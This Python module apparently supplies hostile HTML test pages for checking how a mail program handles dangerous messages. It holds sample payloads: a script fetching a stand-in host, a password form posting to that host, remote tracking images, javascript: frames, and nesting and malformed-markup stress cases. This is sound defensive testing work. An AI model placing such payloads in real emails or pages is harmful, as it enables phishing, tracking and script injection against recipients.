"""Hostile pages for hostile mails: what a mail program would run, fetch, send or draw for ever."""

from collections.abc import Callable
from random import Random

SIZES = (10, 2_000, 60_000)


def script(rng: Random) -> bytes:
    return b"<script>fetch('https://ailleurs.invalid')</script><p onclick=a()>Bonjour</p>" * rng.choice(SIZES[:2])


def pictures(rng: Random) -> bytes:
    return (
        b'<img src="https://ailleurs.invalid/%d.png" width=1><p>Bonjour</p><svg><image href=//a/></svg>'
        % rng.randrange(9**9)
    )


def form(rng: Random) -> bytes:
    return b"<form action=//ailleurs.invalid><input name=mdp type=password>Votre mot de passe</form>" * rng.choice(
        SIZES[:2]
    )


def style(rng: Random) -> bytes:
    return (
        b"<style>@import url(//a);body{display:none}"
        + b"*{background:url(//b)}" * rng.choice(SIZES[:2])
        + b"</style>Bonjour"
    )


def frames(rng: Random) -> bytes:
    return (
        b"<iframe src=javascript:a()></iframe><object data=//a><embed src=//b><meta http-equiv=refresh content=0>"
        * rng.choice(SIZES[:2])
    )


def deep(rng: Random) -> bytes:
    return b"<div>" * rng.choice(SIZES) + b"Bonjour"


def tables(rng: Random) -> bytes:
    return b"<table><tr><td>" * rng.choice(SIZES) + b"Bonjour"


def never_closed(rng: Random) -> bytes:
    return rng.choice((b"<!--", b"<![CDATA[", b"<a ", b'<a b="', b"</", b"<?", b"<!DOCTYPE ", b"<!")) * rng.choice(
        SIZES
    )


def entities(rng: Random) -> bytes:
    return rng.choice(
        (b"&", b"&#", b"&#x110000;", b"&#55296;", b"&amp", b"&CounterClockwiseContourIntegral;", b"&#8238;")
    ) * rng.choice(SIZES)


def many_attributes(rng: Random) -> bytes:
    return b"<p" + b" a=b" * rng.choice(SIZES) + b">Bonjour</p>"


def silent(rng: Random) -> bytes:
    return b"<script>" + b"<style><title>" * rng.choice(SIZES) + b"Bonjour"


def hidden(rng: Random) -> bytes:
    return b"<p style=display:none>" + "\u200b\u202e".encode() * rng.choice(SIZES) + b"Bonjour</p>"


PAGES: tuple[Callable[[Random], bytes], ...] = (
    *(script, pictures, form, style, frames, deep, tables, never_closed, entities, many_attributes, silent, hidden),
)
